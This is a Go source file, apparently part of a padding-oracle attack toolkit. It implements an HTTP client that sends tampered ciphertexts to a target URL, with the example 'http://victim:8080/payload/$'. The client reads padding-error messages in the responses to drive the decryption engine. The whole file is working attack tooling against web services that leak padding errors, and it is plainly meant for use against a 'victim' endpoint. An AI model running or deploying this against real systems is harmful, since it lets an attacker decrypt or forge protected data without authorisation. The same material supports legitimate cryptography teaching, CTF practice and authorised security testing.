package poweb

import (
	"fmt"
	"io"
	"net/http"
	"strings"

	"github.com/alesforz/padoracle/pocrack"
)

// defaultMarker is the substring whose presence in a response body signals
// an invalid-padding verdict. The leading letter is omitted so it matches
// both "Padding is incorrect" and "padding is incorrect".
const defaultMarker = "adding is incorrect"

// URLPlaceholder marks where the web64 ciphertext is substituted into an
// HTTPOracle's URL template.
const URLPlaceholder = "$"

// HTTPOracle queries a remote padding oracle over HTTP GET. The ciphertext
// travels web64-encoded in the URL, and the verdict is read off the
// response body: a body containing the marker substring means invalid
// padding. All queries share one http.Client, so keep-alive connections
// persist across an attack.
type HTTPOracle struct {
	urlTemplate string
	client      *http.Client
	marker      string
}

// HTTPOracleOption configures an HTTPOracle.
type HTTPOracleOption func(*HTTPOracle)

// WithClient substitutes the http.Client used for oracle queries. The
// default client has no timeout; supply one here to bound each round trip.
func WithClient(client *http.Client) HTTPOracleOption {
	return func(o *HTTPOracle) {
		o.client = client
	}
}

// WithMarker overrides the substring that identifies an invalid-padding
// response body.
func WithMarker(marker string) HTTPOracleOption {
	return func(o *HTTPOracle) {
		o.marker = marker
	}
}

// NewHTTPOracle builds an oracle for the endpoint described by urlTemplate,
// which must contain URLPlaceholder exactly where the web64 ciphertext
// belongs, e.g. "http://victim:8080/payload/$".
func NewHTTPOracle(urlTemplate string, opts ...HTTPOracleOption) (*HTTPOracle, error) {
	if !strings.Contains(urlTemplate, URLPlaceholder) {
		const errStr = "url template %q does not contain the ciphertext placeholder %q"
		return nil, fmt.Errorf(errStr, urlTemplate, URLPlaceholder)
	}

	o := &HTTPOracle{
		urlTemplate: urlTemplate,
		client:      &http.Client{},
		marker:      defaultMarker,
	}
	for _, opt := range opts {
		opt(o)
	}

	return o, nil
}

// Check runs one oracle round trip for the given ciphertext. Any non-200
// status is a transport error: the server misbehaved and its body cannot
// be trusted as a verdict.
func (o *HTTPOracle) Check(ciphertext []byte) (bool, error) {
	sendURL := strings.Replace(o.urlTemplate, URLPlaceholder, EncodeWeb64(ciphertext), 1)

	resp, err := o.client.Get(sendURL)
	if err != nil {
		return false, fmt.Errorf("querying oracle: %s", err)
	}
	defer resp.Body.Close()

	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return false, fmt.Errorf("reading oracle response: %s", err)
	}

	if resp.StatusCode != http.StatusOK {
		const errStr = "oracle returned status %d: %s"
		return false, fmt.Errorf(errStr, resp.StatusCode, firstLine(body))
	}

	return !strings.Contains(string(body), o.marker), nil
}

// Oracle adapts the client to the engine's predicate type.
func (o *HTTPOracle) Oracle() pocrack.Oracle {
	return o.Check
}

// firstLine trims a response body down to something fit for an error
// message.
func firstLine(body []byte) string {
	s := string(body)
	if i := strings.IndexByte(s, '\n'); i >= 0 {
		s = s[:i]
	}
	if len(s) > 120 {
		s = s[:120]
	}
	return s
}
